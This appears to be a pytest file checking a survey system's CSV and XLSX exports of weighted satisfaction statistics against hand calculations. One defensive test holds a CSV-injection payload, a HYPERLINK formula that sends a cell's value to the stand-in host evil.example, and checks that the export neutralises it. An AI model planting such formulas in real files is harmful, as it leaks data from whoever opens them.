"""CSV and XLSX exports of the results table, read back and compared with figures worked by hand.

The post-service card scores its five levels 100/75/50/25/0 and counts a
respondent as satisfied from 50 up. Unit A has five service users (policy
weight 3, N=1000) and five of the public (weight 1, N=40), all in 2025; unit B
has three service users in 2024 (below k=5: suppressed).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math

import pytest
from factories import gen_campaign, gen_response, gen_unit, gen_user, login
from openpyxl import load_workbook
from scipy import stats as sps

from survey.extensions import db
from survey.instruments.store import current_version
from survey.results import satisfaction

A_SU = ["very_satisfied", "satisfied", "satisfied", "basically_satisfied", "dissatisfied"]
A_PUB = ["very_satisfied", "satisfied", "basically_satisfied", "basically_satisfied",
         "very_dissatisfied"]
B_SU = ["satisfied", "satisfied", "satisfied"]

# By hand. Service users in A: 100, 75, 75, 50, 25 -> mean 65; squared deviations
# 1225+100+100+225+1600 = 3250 -> s^2 = 812.5. Public in A: 100, 75, 50, 50, 0 ->
# mean 55; 2025+400+25+25+3025 = 5500 -> s^2 = 1375.
W_SU, W_PUB = 0.75, 0.25  # 3 and 1 renormalised
A_INDEX = W_SU * 65 + W_PUB * 55  # 62.5
C_SU = W_SU**2 * (1 - 5 / 1000) * 812.5 / 5  # 90.94921875
C_PUB = W_PUB**2 * (1 - 5 / 40) * 1375 / 5  # 15.0390625
A_VAR = C_SU + C_PUB
A_DF = 10 - 2  # the design df n - H (R's degf)
# survey.stats publishes the larger of A_VAR and Kish's floor: R's svyvar of the ten
# scores about 62.5 (respondent weights W_h/n_h = 0.15 and 0.05; squared deviations
# 3281.25 and 5781.25 per group; times n/(n-1) = 10/9) = 868.06, times
# sum W_h^2 (1 - f_h)/n_h = 0.122875: 106.66, just above A_VAR = 105.99.
A_KISH = (0.15 * 3281.25 + 0.05 * 5781.25) * 10 / 9 * (
    W_SU**2 * (1 - 5 / 1000) / 5 + W_PUB**2 * (1 - 5 / 40) / 5
)
A_SE = math.sqrt(max(A_VAR, A_KISH))
# Share satisfied: 4 of 5 in both groups; s_h^2 = p(1-p) n/(n-1) = 0.2.
A_SHARE = 0.8
A_SHARE_VAR = W_SU**2 * (1 - 5 / 1000) * 0.2 / 5 + W_PUB**2 * (1 - 5 / 40) * 0.2 / 5


def t(df: float) -> float:
    return float(sps.t.ppf(0.975, df))


def logit_interval(index: float, se: float, df: float) -> tuple[float, float]:
    """The index's published interval: logit(u) +/- t se_u / (u (1 - u)), u = index/100."""
    u, se_u = index / 100, se / 100
    centre, half = math.log(u / (1 - u)), t(df) * se_u / (u * (1 - u))
    low, high = (100 / (1 + math.exp(-(centre + k * half))) for k in (-1, 1))
    return low, high


@pytest.fixture
def campaign(app):
    a, b = gen_unit("A", "单位甲"), gen_unit("B", "单位乙")
    campaign = gen_campaign(
        [a, b],
        groups={
            "service_user": {"weight": 3, "population": 1000, "target": 400},
            "public": {"weight": 1, "population": 40},
        },
        period_start=dt.date(2024, 1, 1),
        period_end=dt.date(2026, 12, 31),
    )
    db.session.flush()
    when = dt.datetime(2025, 5, 5, 2)
    for value in A_SU:
        gen_response(campaign, unit=a, group="service_user", answers={"overall": value},
                     submitted_at=when)
    for value in A_PUB:
        gen_response(campaign, unit=a, group="public", channel="link",
                     answers={"overall": value}, submitted_at=when)
    for value in B_SU:
        gen_response(campaign, unit=b, group="service_user", answers={"overall": value},
                     submitted_at=dt.datetime(2024, 3, 3, 2))
    flagged = gen_response(campaign, unit=a, group="service_user",
                           answers={"overall": "very_dissatisfied"}, submitted_at=when)
    flagged.flagged = True
    db.session.commit()
    return campaign


@pytest.fixture
def evaluator_client(client, app):
    login(client, gen_user("evaluator"))
    client.get("/evaluate/?lang=en")
    return client


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    text = body.decode("utf-8-sig")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_by_unit_matches_hand_computation(evaluator_client, campaign):
    response = evaluator_client.get(f"/evaluate/campaign/{campaign.id}/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # the charset once
    assert "attachment" in response.headers["Content-Disposition"]
    rows = read_csv(response.data)
    assert [r["unit_code"] for r in rows] == ["A", "B"]
    a, b = rows
    assert "group" not in a
    # ten counted responses: the flagged burst card is left out
    assert (a["unit_name"], a["n"]) == ("单位甲", "10")
    assert (a["weighting"], a["period"]) == ("policy", "all")
    assert float(a["index_estimate"]) == pytest.approx(62.5, abs=1e-12)
    assert float(a["index_se"]) == pytest.approx(A_SE, rel=1e-12)
    assert float(a["index_df"]) == pytest.approx(A_DF, rel=1e-12)
    low, high = logit_interval(62.5, A_SE, A_DF)
    assert float(a["index_low"]) == pytest.approx(low, rel=1e-9)
    assert float(a["index_high"]) == pytest.approx(high, rel=1e-9)
    assert float(a["share_satisfied"]) == pytest.approx(A_SHARE, abs=1e-12)
    assert float(a["share_se"]) == pytest.approx(math.sqrt(A_SHARE_VAR), rel=1e-12)
    # Wilson's interval on the effective sample size n* = p(1 - p)/V, t on 8 df for z
    n_star = A_SHARE * (1 - A_SHARE) / A_SHARE_VAR
    t2n = t(A_DF) ** 2 / n_star
    centre = (A_SHARE + t2n / 2) / (1 + t2n)
    half = t(A_DF) / (1 + t2n) * math.sqrt(A_SHARE * (1 - A_SHARE) / n_star + t2n / (4 * n_star))
    assert float(a["share_low"]) == pytest.approx(centre - half, rel=1e-9)
    assert float(a["share_high"]) == pytest.approx(centre + half, rel=1e-9)
    assert (a["suppressed"], a["suppression_reason"]) == ("false", "")
    # ten respondents: shown, but not reliable (effective sample size below 30), with why
    assert (a["index_reliable"], a["share_reliable"]) == ("false", "false")
    assert "n_effective" in a["index_reasons"].split()
    assert "n_effective" in a["share_reasons"].split()
    assert "effective sample size below 30" in a["reading"]
    # B: three respondents, below k=5: every figure empty, n too, the reason given.
    assert (b["n"], b["suppressed"]) == ("", "true")
    for key in ("index_estimate", "index_se", "index_df", "index_low", "index_high",
                "share_satisfied", "share_se", "share_df", "share_low", "share_high",
                "index_reliable", "index_reasons", "share_reliable", "share_reasons", "reading"):
        assert b[key] == "", key
    assert "5" in b["suppression_reason"]


def test_csv_share_interval_is_the_services_interval(evaluator_client, campaign):
    # The share's bounds are checked by hand above and in tests/stats; here only
    # that the export carries them unchanged.
    rows = read_csv(evaluator_client.get(f"/evaluate/campaign/{campaign.id}/export.csv").data)
    expected = satisfaction(campaign, by="unit")[0].share_satisfied
    assert float(rows[0]["share_low"]) == expected.low
    assert float(rows[0]["share_high"]) == expected.high


def test_csv_by_unit_and_group_and_period(evaluator_client, campaign):
    url = f"/evaluate/campaign/{campaign.id}/export.csv?by=unit,group"
    rows = read_csv(evaluator_client.get(url).data)
    got = {(r["unit_code"], r["group"]): r for r in rows}
    assert list(got) == [("A", "service_user"), ("A", "public"), ("B", "service_user")]
    su = got[("A", "service_user")]
    # One group: its own mean 65, variance (1 - 5/1000) 812.5 / 5, df n-1 = 4.
    assert float(su["index_estimate"]) == pytest.approx(65)
    assert float(su["index_se"]) == pytest.approx(math.sqrt(0.995 * 812.5 / 5), rel=1e-12)
    assert float(su["index_df"]) == pytest.approx(4)
    pub = got[("A", "public")]
    assert float(pub["index_estimate"]) == pytest.approx(55)
    assert float(pub["index_se"]) == pytest.approx(math.sqrt(0.875 * 1375 / 5), rel=1e-12)
    low, _ = logit_interval(55, math.sqrt(0.875 * 1375 / 5), 4)
    assert float(pub["index_low"]) == pytest.approx(low, rel=1e-9)
    assert got[("B", "service_user")]["suppressed"] == "true"
    assert got[("B", "service_user")]["index_estimate"] == ""

    rows = read_csv(
        evaluator_client.get(f"/evaluate/campaign/{campaign.id}/export.csv?period=2024").data
    )
    assert [(r["unit_code"], r["n"], r["period"]) for r in rows] == [("B", "", "2024")]


def test_xlsx_reads_back_with_numbers_formats_and_settings(evaluator_client, campaign):
    response = evaluator_client.get(f"/evaluate/campaign/{campaign.id}/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["results", "settings"]
    sheet = book["results"]
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header[:7] == ["Weighting", "Period", "Dimension", "Unit code", "Unit", "n",
                          "Satisfaction index"]
    a = {h: c for h, c in zip(header, sheet[2], strict=True)}
    b = {h: c for h, c in zip(header, sheet[3], strict=True)}
    assert a["Unit code"].value == "A" and a["n"].value == 10
    # the people served, by name (the CSV keeps the code); no staff answered here
    assert a["Dimension"].value == "People served and stakeholders"
    assert isinstance(a["Satisfaction index"].value, float)
    assert a["Satisfaction index"].value == pytest.approx(62.5)
    assert a["Satisfaction index"].number_format == "0.0"
    assert a["Index SE"].value == pytest.approx(A_SE, rel=1e-12)
    assert a["Index df"].value == pytest.approx(A_DF, rel=1e-12)
    assert a["Share satisfied"].value == pytest.approx(0.8)
    assert a["Share satisfied"].number_format == "0.0%"
    assert a["Suppressed"].value == "no"
    assert b["Unit code"].value == "B" and b["n"].value is None
    assert b["Suppressed"].value == "yes"
    for key in ("Satisfaction index", "Index SE", "Index interval low", "Share satisfied",
                "Share interval high"):
        assert b[key].value is None, key
    assert sheet.max_row == 3

    settings = book["settings"]
    values = [[c.value for c in row] for row in settings.iter_rows()]
    pairs = {row[0]: row[1] for row in values if row and row[0]}
    assert pairs["Weighting"] == "policy"
    assert pairs["Small-cell threshold k"] == 5
    assert pairs["Confidence level"] == 0.95
    assert pairs["Interval method (share satisfied)"] == "wilson"
    assert pairs["Interval method (index)"] == "logit"
    assert pairs["Degrees of freedom"] == "design"
    assert pairs["Strata with one respondent"] == "collapse"
    assert pairs["Period"] == "all"
    assert pairs["Period start"] == "2024-01-01" and pairs["Period end"] == "2026-12-31"
    assert pairs["Generated at (UTC)"].endswith("Z")
    groups = {row[0]: row[1:5] for row in values if row[0] in ("service_user", "public")}
    assert groups["service_user"] == ["post-service-card", 3, 1000, 400]
    assert groups["public"] == ["post-service-card", 1, 40, None]
    version = current_version("post-service-card")[1].version
    assert ["post-service-card", version, 13] in [row[:3] for row in values]


def test_bad_by_or_period_is_refused_with_a_message(evaluator_client, campaign):
    page = evaluator_client.get(f"/evaluate/campaign/{campaign.id}/export.csv?by=channel")
    assert page.status_code == 400
    assert "unit,group" in page.text
    page = evaluator_client.get(f"/evaluate/campaign/{campaign.id}/export.xlsx?period=2030")
    assert page.status_code == 400
    assert "2030" in page.text
    assert evaluator_client.get("/evaluate/campaign/987654/export.csv").status_code == 404


def test_operator_cannot_export(client, campaign):
    login(client, gen_user("operator"))
    assert client.get(f"/evaluate/campaign/{campaign.id}/export.csv").status_code == 403


def test_a_unit_name_that_looks_like_a_formula_stays_text(evaluator_client, campaign):
    # A name typed as a formula would run when an evaluator opens the file in Excel or
    # WPS (CSV injection): the CSV gets a leading apostrophe, the XLSX a text cell.
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    unit = campaign.units[0]
    unit.name = hostile
    db.session.commit()
    rows = read_csv(evaluator_client.get(f"/evaluate/campaign/{campaign.id}/export.csv").data)
    assert rows[0]["unit_name"] == "'" + hostile
    body = evaluator_client.get(f"/evaluate/campaign/{campaign.id}/export.xlsx").data
    sheet = load_workbook(io.BytesIO(body))["results"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == hostile]
    assert len(cells) == 1 and cells[0].data_type == "s"


def test_a_small_group_is_left_out_of_its_units_figure(evaluator_client, app):
    # Unit C: ten service users and two of the public. The unit's own row (in the by-unit
    # export) and the service users' row would give the public's figure by subtraction if
    # the public counted in the unit's figure: it does not, the unit is its service users.
    c = gen_unit("C")
    campaign = gen_campaign([c], groups={"service_user": {}, "public": {}})
    for _ in range(10):
        gen_response(campaign, unit=c, answers={"overall": "satisfied"})
    for _ in range(2):
        gen_response(campaign, unit=c, group="public", answers={"overall": "very_dissatisfied"})
    db.session.commit()
    url = f"/evaluate/campaign/{campaign.id}/export.csv?by=unit,group"
    rows = {r["group"]: r for r in read_csv(evaluator_client.get(url).data)}
    assert rows["public"]["suppressed"] == "true" and "5" in rows["public"]["suppression_reason"]
    assert rows["public"]["n"] == ""
    su = rows["service_user"]
    assert (su["n"], su["suppressed"], su["index_estimate"]) == ("10", "false", "75.0")
    whole = read_csv(evaluator_client.get(f"/evaluate/campaign/{campaign.id}/export.csv").data)
    assert (whole[0]["n"], whole[0]["index_estimate"]) == ("10", "75.0")


def test_xlsx_names_the_dimension_and_the_group_in_the_readers_language(client, campaign):
    login(client, gen_user("evaluator"))
    for lang, dimension, group in (("en", "People served and stakeholders", "Service users"),
                                   ("zh_Hans", "服务对象和利益相关方", "服务对象")):
        client.get(f"/evaluate/?lang={lang}")
        body = client.get(f"/evaluate/campaign/{campaign.id}/export.xlsx?by=unit,group").data
        sheet = load_workbook(io.BytesIO(body))["results"]
        rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
        assert {r[2] for r in rows} == {dimension}, lang
        assert group in {r[5] for r in rows}, lang
        assert "service_user" not in {r[5] for r in rows} and "external" not in {r[2] for r in rows}
    # The CSV is for machines: codes.
    rows = read_csv(client.get(f"/evaluate/campaign/{campaign.id}/export.csv?by=unit,group").data)
    assert {r["dimension"] for r in rows} == {"external"}
    assert "service_user" in {r["group"] for r in rows}
